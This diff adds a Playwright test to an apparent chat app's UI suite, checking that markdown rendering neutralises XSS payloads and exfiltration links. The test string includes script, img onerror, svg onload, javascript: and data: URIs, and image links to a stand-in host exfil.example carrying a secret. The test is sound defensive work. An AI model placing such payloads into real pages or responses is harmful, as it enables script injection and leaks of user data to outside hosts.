@@ -237,3 +237,49 @@ def test_session_tab_shows_totals_and_per_model_statistics(page: Page):
     send(page, "/mock fail=server\nBreak")
     expect(page.locator("[data-stat=session_errors]")).to_have_text("1")
     expect(page.locator("[data-stat=session_answers]")).to_have_text("2")
+
+
+# Known XSS and exfiltration tricks. `/mock echo` streams them back word by word, so the ones with spaces
+# arrive split across chunks and the others whole.
+HOSTILE = """/mock echo rate=400
+<script>window.__xss = 'script'</script>
+<img/src=x/onerror=window.__xss='img'>
+<img src="x" onerror="window.__xss = 'img-split'">
+<svg/onload=window.__xss='svg'>
+[click me](javascript:window.__xss='link')
+[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
+[protocol relative](//exfil.example/steal)
+![leak](http://exfil.example/collect?secret=owner-key)
+<iframe src="javascript:window.__xss='iframe'"></iframe>
+<a href="http://exfil.example/x" onclick="window.__xss='onclick'">raw anchor</a>
+
+[a fine link](https://example.org/page)
+"""
+
+
+def test_hostile_markdown_is_shown_not_executed_and_nothing_leaves_for_another_origin(
+    page: Page, app_url: str
+):
+    own_origin = app_url.split("//", 1)[1]
+    elsewhere: list[str] = []
+    page.context.on("request", lambda r: elsewhere.append(r.url) if own_origin not in r.url else None)
+
+    send_and_wait(page, HOSTILE)
+    answer = assistant_bubbles(page).last
+    for element in answer.locator("a").all():  # clicking anything must not run code either
+        element.click(modifiers=["Alt"], no_wait_after=True) if element.get_attribute(
+            "href"
+        ) is None else None
+
+    assert page.evaluate("window.__xss") is None
+    assert elsewhere == []
+    for tag in ("script", "img", "svg", "iframe"):
+        expect(answer.locator(tag)).to_have_count(0)
+    expect(answer).to_contain_text("<script>window.__xss = 'script'</script>")  # raw HTML shown as text
+    expect(answer).to_contain_text("[image: leak]")
+    hrefs = [a.get_attribute("href") for a in answer.locator("a").all()]
+    assert not any(h and (h.startswith(("javascript:", "data:", "//")) or "exfil" in h) for h in hrefs)
+    fine = answer.get_by_role("link", name="a fine link")
+    expect(fine).to_have_attribute("href", "https://example.org/page")
+    expect(fine).to_have_attribute("rel", "noopener noreferrer")
+    expect(fine).to_have_attribute("target", "_blank")
